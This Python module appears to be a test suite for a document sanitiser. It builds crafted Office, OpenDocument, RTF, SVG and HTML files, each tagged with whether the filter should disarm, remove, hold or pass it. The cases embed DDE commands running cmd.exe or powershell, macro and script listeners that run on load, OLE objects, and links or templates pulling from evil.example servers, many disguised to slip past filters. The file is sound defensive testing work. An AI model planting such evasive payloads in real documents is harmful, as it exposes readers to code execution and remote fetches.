"""Documents that act, or lead to what the rules disable, in ways that a reader of theirs takes and a filter may not.

CASES: label ─▶ (file name, bytes, wanted). wanted: disarm (delivered with that gone), remove, hold, pass."""
import io
import zipfile

import linked
from linked import DRIVE, HEAD, ODF, R, S, W, docx, escape, field, hyperlink, mark, opendocument, package, paragraph, rels, run, types

ODF_MORE = " ".join(f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"' for p, n in (
    ("script", "script"), ("form", "form"), ("presentation", "presentation")))
MS = "http://schemas.microsoft.com/office"
WEB, SERVER = "https://evil.example/x", r"\\\\evil.example\\x"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def code(text):
    return f'<w:r><w:instrText xml:space="preserve">{escape(text)}</w:instrText></w:r>'


def spelled(word):
    """A field whose result is that word."""
    return field("QUOTE " + " ".join(str(ord(c)) for c in word), word)


def composed(*pieces):
    return paragraph(mark("begin"), *pieces, mark("separate"), run("shown"), mark("end"))


def word(body, relations=(), extra=None):
    return docx([paragraph(run("Minutes")), *body], relations, extra)


def members(content):
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {n: archive.read(n) for n in archive.namelist()}


def renamed(content, old, new):
    return package({n.replace(old, new): b.replace(old.encode(), new.encode()) for n, b in members(content).items()})


def in_utf16(content, *names):
    return package({n: b.decode().replace("UTF-8", "UTF-16").encode("utf-16") if n in names else b for n, b in members(content).items()})


def described_behind(content):
    """As one writes a zip that cannot go back: sizes come behind the bytes."""
    class Pipe(io.RawIOBase):
        data = b""

        def writable(self):
            return True

        def write(self, piece):
            self.data += bytes(piece)
            return len(piece)
    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members(content).items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 16, 9, 0, 0)), body)
    return pipe.data


LINKED = word([paragraph(hyperlink("rId9", "plan"))], [("rId9", "hyperlink", DRIVE, "External")])
ASKS = word([paragraph(field("DDEAUTO cmd.exe x", "shown", 3))])


def word_cases():
    fields = {
        "a program, spelled by another field": composed(spelled("DDEAUTO"), code(" cmd.exe x")),
        "a program, half spelled": composed(code("DD"), spelled("E"), code(" cmd.exe x")),
        "a program behind a tab": paragraph(field("DDE\tcmd.exe x", "shown")),
        "a program in quotation marks": paragraph(field('"DDE" cmd.exe x', "shown")),
        "a program in ordinary text": composed(run("DDEAUTO cmd.exe x")),
        "a program in a fallback": f'<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback>'
                                   f'{field("DDEAUTO cmd.exe x", "shown")}</mc:Fallback></mc:AlternateContent></w:r></w:p>',
        "a sheet of the web": paragraph(field(f'LINK Excel.Sheet.8 "{WEB}" a \\a', "shown", 4)),
        "a sheet of a server": paragraph(field(f'LINK Excel.Sheet.8 "{SERVER}" a \\a', "shown")),
        "a text behind its converter": paragraph(field(f'INCLUDETEXT \\c ANSI "{SERVER}"', "shown")),
        "a style sheet of a server": paragraph(field(f'INCLUDETEXT "C:\\\\a.xml" \\t "{SERVER}"', "shown")),
        "a picture of a server behind a switch": paragraph(field(f'INCLUDEPICTURE \\d "{SERVER}"', "shown")),
        "a table of a server": paragraph(field(f'DATABASE \\d "{SERVER}.mdb" \\s "select"', "shown")),
        "a link behind a switch": paragraph(field(f'HYPERLINK \\m "{DRIVE}"', "shown")),
        "a link that another field completes": composed(code('HYPERLINK "https://drive.goo'), spelled("gle.com/file"), code('"')),
        "a link in a field without an end": paragraph(mark("begin"), code(f'HYPERLINK "{DRIVE}"'), mark("separate"), run("shown")),
        "a link split by a comment": composed(f'<w:r><w:instrText>HYPER<!-- x -->LINK <![CDATA["{DRIVE}"]]></w:instrText></w:r>'),
    }
    for label, body in fields.items():
        yield label, "docx", word([body]), "disarm"
    yield "a link to this disk", "docx", word([paragraph(field('LINK Excel.Sheet.8 "C:\\\\a.xls" a', "shown"))]), "pass"
    yield "a field in the words of a condition", "docx", word([composed(code("IF "), field("PAGE", "1"), code(" = 1 a b"))]), "pass"
    yield "a server that is told by slashes", "docx", word([paragraph(hyperlink("rId9", "x"))], [("rId9", "hyperlink", "//evil.example/x", "External")]), "disarm"
    yield "add-ins under another name", "docx", word([], [("rId9", MS + "/2011/relationships/webextensiontaskpanes", "tp.xml")], {"word/tp.xml": "<x/>"}), "disarm"
    yield "macros by an absolute path in capitals", "docx", word([], [("rId9", MS + "/2006/relationships/vbaProject", "/WORD/x/../V%62A.bin")], {"word/vba.bin": OLE}), "disarm"
    yield "UTF-16 throughout", "docx", in_utf16(LINKED, "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"), "disarm"
    yield "a program in UTF-16", "docx", in_utf16(ASKS, "word/document.xml"), "disarm"
    yield "parts of another folder", "docx", renamed(LINKED, "word/", "foo/"), "disarm"
    yield "parts of no folder", "docx", renamed(LINKED, "word/", ""), "disarm"
    yield "a part of another ending", "docx", renamed(ASKS, "document.xml", "document.foo"), "disarm"
    yield "another file first", "docx", package({"a.txt": b"x", **members(LINKED)}), "disarm"
    yield "a package that says it is OpenDocument", "docx", package({"mimetype": "application/vnd.oasis.opendocument.text", **members(LINKED)}), "remove"
    yield "a package that says it is a book", "docx", package({"mimetype": "application/epub+zip", **members(LINKED)}), "disarm"
    yield "a fixed page", "xps", package({"[Content_Types].xml": types({}).replace(
        'Extension="png" ContentType="image/png"', 'Extension="fpage" ContentType="application/vnd.ms-package.xps-fixedpage+xml"'), "FixedDocSeq.fdseq": "<a/>", "Pages/1.fpage": (
        f'<FixedPage xmlns="http://schemas.microsoft.com/xps/2005/06"><Path FixedPage.NavigateUri="{DRIVE}"/></FixedPage>')}), "disarm"
    yield "a chart", "vsdx", package({"[Content_Types].xml": types({}), "visio/pages/page1.xml": (
        '<PageContents xmlns="http://schemas.microsoft.com/office/visio/2012/main"><Section N="Hyperlink"><Row>'
        f'<Cell N="Address" V="{DRIVE}"/></Row></Section></PageContents>')}), "disarm"
    yield "sizes behind the bytes", "docx", described_behind(LINKED), "disarm"
    yield "an entity", "docx", package({**members(LINKED), "word/document.xml": f'<!DOCTYPE w [<!ENTITY e "DDEAUTO cmd">]><w:document {W}>&e;</w:document>'}), "hold"
    flat = "".join(f'<pkg:part pkg:name="/{n}" pkg:contentType="x"><pkg:xmlData>{b.decode().split("?>", 1)[1]}</pkg:xmlData></pkg:part>'
                   for n, b in members(LINKED).items() if not n.startswith("["))
    yield "a package in one piece", "xml", f'<?xml version="1.0"?><pkg:package xmlns:pkg="{MS}/2006/xmlPackage">{flat}</pkg:package>'.encode(), "remove"
    old = f'<x:wordDocument xmlns:x="{MS}/word/2003/wordml">%s</x:wordDocument>'
    yield "XML of 2003", "xml", (old % f'<x:body><x:p><x:hlink x:dest="{DRIVE}"><x:r><x:t>x</x:t></x:r></x:hlink></x:p></x:body>').encode(), "remove"
    yield "macros in XML of 2003", "doc", (old % "<x:docSuppData><x:binData x:name='editdata.mso'>QWN0aXZl\nTWltZQ</x:binData></x:docSuppData>").encode(), "remove"


def excel(cells="", after="", relations=(), extra=None):
    return package({
        "[Content_Types].xml": types({"/xl/workbook.xml": "spreadsheetml.sheet.main+xml"}, **{"/xl/worksheets/sheet1.xml": "spreadsheetml.worksheet+xml"}),
        "_rels/.rels": rels(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{HEAD}<workbook {S} {R}><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels(("rId1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": f'{HEAD}<worksheet {S} {R}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>hello</t></is></c>{cells}</row></sheetData>{after}</worksheet>',
        "xl/worksheets/_rels/sheet1.xml.rels": rels(*relations), **(extra or {})})


def excel_cases():
    for label, formula in {"a program": "cmd|'/c calc'!A0", "a link in pieces": 'HYPERLINK("https://drive."&"google.com/x","d")',
                           "a picture of a service": '_xlfn.IMAGE("https://drive.google.com/x")'}.items():
        yield label + " in a formula", "xlsx", excel(f'<c r="B1" t="str"><f>{escape(formula)}</f><v>d</v></c>'), "disarm"
    control = f'<ax:ocx xmlns:ax="{MS}/2006/activeX" {R} ax:classid="{{8856F961-340A-11D0-A96B-00C04FD705A2}}" ax:persistence="persistPropertyBag"/>'
    yield "a control under another name", "xlsx", excel("", '<controls><control shapeId="1" r:id="rId5" name="x"/></controls>',
                                                        [("rId5", "control", "../c/c1.xml")], {"xl/c/c1.xml": control}), "disarm"
    yield "a query of the web", "xlsx", excel("", "", [("rId8", "queryTable", "../q.xml")], {"xl/q.xml": f'<queryTable {S} refreshOnLoad="&#49;" name="q"/>'}), "disarm"
    yield "a drawing of old", "xlsx", excel("", '<legacyDrawing r:id="rId5"/>', [("rId5", "vmlDrawing", "../v.vml")], {
        "xl/v.vml": f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="{DRIVE}"/></xml>'}), "disarm"
    old = '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:s="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet s:Name="a"><Table><Row><Cell %s><Data s:Type="String">x</Data></Cell></Row></Table></Worksheet></Workbook>'
    yield "a formula in XML of 2003", "xml", (old % 's:Formula="=HYPERLINK(&quot;https://drive.google.com/x&quot;)"').encode(), "remove"


def slide_cases():
    slides = members(linked.pptx())
    old = slides["ppt/slides/slide1.xml"].decode()
    touched = old[:old.index("<p:sp>")] + ('<p:sp><p:nvSpPr><p:cNvPr id="2" name="B"><a:hlinkMouseOver r:id="rId2" action="%s"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
                                           '<p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>Minutes</a:t></a:r></a:p></p:txBody></p:sp>') + old[old.index("</p:spTree>"):]

    def touch(action, kind, target):
        to = rels(("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"), ("rId2", kind, target, "External"))
        return package({**slides, "ppt/slides/slide1.xml": touched % action, "ppt/slides/_rels/slide1.xml.rels": to})

    yield "a touch that starts a program", "pptx", touch("ppaction://program", "hyperlink", "powershell%20-c%20calc"), "disarm"
    yield "a touch that starts one, by its number", "pptx", touch("&#112;paction://Program", "hyperlink", "powershell%20-c%20calc"), "disarm"
    yield "a slide that is asked for anew", "pptx", touch("ppaction://noaction", "slideUpdateUrl", WEB), "disarm"
    yield "a touch that turns the page", "pptx", touch("ppaction://hlinkshowjump?jump=nextslide", "hyperlink", "plan.docx"), "pass"


def odf(body, kind="text", top="", extra=None):
    archive = members(opendocument(kind, f"<office:{kind}>{body}</office:{kind}>"))
    text = archive["content.xml"].decode().replace(ODF, f"{ODF} {ODF_MORE}").replace("<office:body>", top + "<office:body>")
    return package({**archive, "content.xml": text, **(extra or {})})


def flat(body, top=""):
    return (f'{HEAD}<office:document {ODF} {ODF_MORE} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">{top}'
            f"<office:body><office:text><text:p>Minutes</text:p>{body}</office:text></office:body></office:document>").encode()


SCRIPT = "vnd.sun.star.script:a.py$f?language=Python&amp;location=share"
CLICK = f'<text:p><text:a xlink:href="{DRIVE}">plan</text:a></text:p>'


def listener(prefix="script", more=""):
    return (f'<office:scripts><office:event-listeners><{prefix}:event-listener xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
            f'{prefix}:language="ooo:script" {prefix}:event-name="dom:load" {more} xlink:href="{SCRIPT}"/></office:event-listeners></office:scripts>')


def odf_cases():
    frame = '<text:p><draw:frame svg:width="1cm" svg:height="1cm">%s</draw:frame></text:p>'
    section = '<text:section text:name="s">%s<text:p>shown</text:p></text:section>'
    dde = 'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"'
    for label, body in {
            "a link to a script": f'<text:p><text:a xlink:href="{SCRIPT}">c</text:a></text:p>',
            "a link to a macro": '<text:p><text:a xlink:href=" macro:///Tools.Misc.f()">c</text:a></text:p>',
            "a server that is told by slashes": '<text:p><text:a xlink:href="//evil.example/x">c</text:a></text:p>',
            "a document of the web": frame % f'<draw:object xlink:href="{WEB}"/>',
            "a frame of the web": frame % f'<draw:floating-frame xlink:href="{WEB}"/>',
            "a frame of a script": frame % f'<draw:floating-frame xlink:href="{SCRIPT}"/>',
            "a picture of a server": frame % '<draw:image xlink:href="//evil.example/x.png"/>',
            "a section of the web": section % f'<text:section-source xlink:href="{WEB}"/>',
            "a section of a program": section % f"<office:dde-source {dde}/>",
            "a link in a link": f'<text:p><text:a xlink:href="https://www.example.org"><text:a xlink:href="{DRIVE}">c</text:a></text:a></text:p>'}.items():
        yield label, "odt", odf(body), "disarm"
    table = '<table:table table:name="t">%s<table:table-row>%s</table:table-row></table:table>'
    cell = '<table:table-cell table:formula="of:=%s" office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>'
    yield "a table of the web", "ods", odf(table % (f'<table:table-source xlink:href="{WEB}"/>', cell % "1+6"), "spreadsheet"), "disarm"
    yield "a program in a formula", "ods", odf(table % ("", cell % "dDe (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"), "spreadsheet"), "disarm"
    yield "a cell of another document", "ods", odf(table % ("", cell % "['file://evil.example/x.ods'#$A.A1]"), "spreadsheet"), "disarm"
    yield "a cell of a document of a service", "ods", odf(table % ("", cell % f"[&apos;{DRIVE}&apos;#$A.A1]"), "spreadsheet"), "disarm"
    yield "ordinary formulas", "ods", odf(table % ("", cell % "SUM([.A1:.A2])&amp;'a'"), "spreadsheet"), "pass"
    yield "a script as it opens", "odt", odf(CLICK, top=listener()), "disarm"
    yield "a script, by another prefix", "odt", odf("<text:p/>", top=listener("s")), "disarm"
    yield "a script that is called a turn of the page", "odt", odf("<text:p/>", top=listener("s", 's:action="show"')), "disarm"
    yield "an accelerator", "odt", odf("<text:p/>", extra={"Configurations2/accelerator/current.xml": (
        '<x:acceleratorlist xmlns:x="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><x:item x:code="KEY_A" '
        f'xlink:href="{SCRIPT}"/></x:acceleratorlist>')}), "disarm"
    slide = ('<draw:page draw:name="p"><draw:rect svg:width="1cm" svg:height="1cm"><office:event-listeners><presentation:event-listener '
             'script:event-name="dom:click" presentation:action="%s"/></office:event-listeners><text:p>x</text:p></draw:rect></draw:page>')
    yield "a turn of the page", "odp", odf(slide % "next-page", "presentation"), "pass"
    yield "a slide that starts a program", "odp", odf(slide % 'execute" xlink:href="../../x.exe', "presentation"), "disarm"
    plain = members(odf(CLICK))
    kind = plain.pop("mimetype")
    yield "its type is not said", "odt", package(plain), "disarm"
    yield "its type is said last", "odt", package({**plain, "mimetype": kind}), "disarm"
    yield "in one piece", "fodt", flat(CLICK), "disarm"
    yield "in one piece, as XML", "xml", flat(CLICK), "disarm"
    yield "in one piece, nothing in it", "fodt", flat(""), "pass"
    basic = ('<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded '
             'ooo:name="Standard">%s</ooo:library-embedded></ooo:libraries></office:script></office:scripts>')
    yield "in one piece, an empty library", "fodt", flat("", basic % ""), "pass"
    yield "in one piece, Basic", "fodt", flat("", basic % '<ooo:module ooo:name="M"><ooo:source-code>Sub Main\nEnd Sub</ooo:source-code></ooo:module>'), "disarm"
    yield "in one piece, a program", "fodt", flat(section % f"<office:dde-source {dde}/>"), "disarm"
    yield "in one piece, an object", "fodt", flat(frame % "<draw:object-ole><office:binary-data>0M8R4KGxGuE=</office:binary-data></draw:object-ole>"), "disarm"


def rich(instruction, result="shown"):
    return "{\\field{\\*\\fldinst " + instruction + "}{\\fldrslt " + result + "}}"


def rtf_cases():
    for label, body in {
            "a program in hexadecimal": rich("\\'44\\'44\\'45AUTO cmd x"),
            "a program in groups": rich("{\\b D}{\\i D}{E}{AUTO cmd x}"),
            "a program behind a tab": rich("DDE\\tab cmd x"),
            "a program in quotation marks": rich('"DDE" cmd x'),
            "a program, spelled by another field": rich(rich("QUOTE 68 68 69", "DDE") + " cmd x"),
            "a sheet of the web": rich(f'LINK Excel.Sheet.8 "{WEB}" a'),
            "a text of the web, in hexadecimal": rich("INCLUDET\\'45XT \"https:\\'2f\\'2fevil.example/x\""),
            "an object in pieces": "{\\object\\objemb{\\*\\objdata 01{\\foo}05{\\*\\bar zz}0000}{\\result shown}}",
            "an object in bytes": "{\\object\\objemb{\\*\\objdata \\bin3 }}}}{\\result shown}}",
            "a template in pieces": "{\\*\\template ht{\\b }tps:/{}/evil.example/t}"}.items():
        yield label, "rtf", f"{{\\rtf1\\ansi Minutes {body} end}}".encode("latin-1"), "disarm"
    thing = b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}{\\result r}}}"
    yield "behind blanks", "rtf", b"\r\n  " + thing, "remove"
    yield "behind a byte order mark", "doc", b"\xef\xbb\xbf" + thing, "remove"
    yield "in doc clothes", "doc", thing, "disarm"


def page_cases():
    svg = '<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
    yield "an address in an entity", "svg", ('<!DOCTYPE svg [<!ENTITY d "google">]>' + svg % '<a href="https://drive.&d;.com/x"/>').encode(), "hold"
    yield "a handler that is declared", "svg", ('<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + svg % "").encode(), "hold"
    yield "a script by another prefix", "svg", b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>', "disarm"
    yield "a page in it", "xml", b'<?xml version="1.0"?><r><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></r>', "remove"
    yield "a frame in an attribute", "html", b'<html><body><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>Minutes</p></body></html>', "disarm"
    yield "a shadow", "html", b'<html><body><div><template shadowrootmode="open"><script>alert(1)</script></template></div><p>Minutes</p></body></html>', "disarm"


CASES = {f"{end}: {label}": (f"plan.{end}", content, wanted)
         for cases in (word_cases, excel_cases, slide_cases, odf_cases, rtf_cases, page_cases) for label, end, content, wanted in cases()}
